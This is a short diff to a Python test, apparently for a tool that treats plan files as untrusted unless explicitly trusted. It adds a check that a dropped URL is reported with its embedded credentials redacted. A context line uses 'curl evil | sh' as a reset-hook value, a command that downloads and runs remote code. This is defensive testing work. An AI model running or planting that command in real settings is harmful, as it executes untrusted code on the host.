@@ -811,6 +811,11 @@ def test_a_file_is_data_unless_trusted(tmp_path):
     kept, lines = sources.untrusted(plan, cli("--trust-plan"), trust=True)
     trusted = derive.resolve(kept, cli("--trust-plan"))
     assert lines == [] and trusted.host == "http://10.0.0.9:8000" and trusted.reset_hook == "curl evil | sh"
+    # a dropped URL is said without its credentials (issue 35 finding 4: they were printed in clear)
+    secret = derive.load_plan(write(tmp_path, "mlflow:\n  uri: http://alice:S3cretPW@127.0.0.1:5000/?token=T0ken9\n"))
+    _, lines = sources.untrusted(secret, cli(), trust=False)
+    said = "\n".join(lines)
+    assert lines and "S3cretPW" not in said and "T0ken9" not in said, said
     # declared once: exactly these settings need trust
     needs = {n for n, (_, o) in options().items() if o.trust}
     assert needs == {
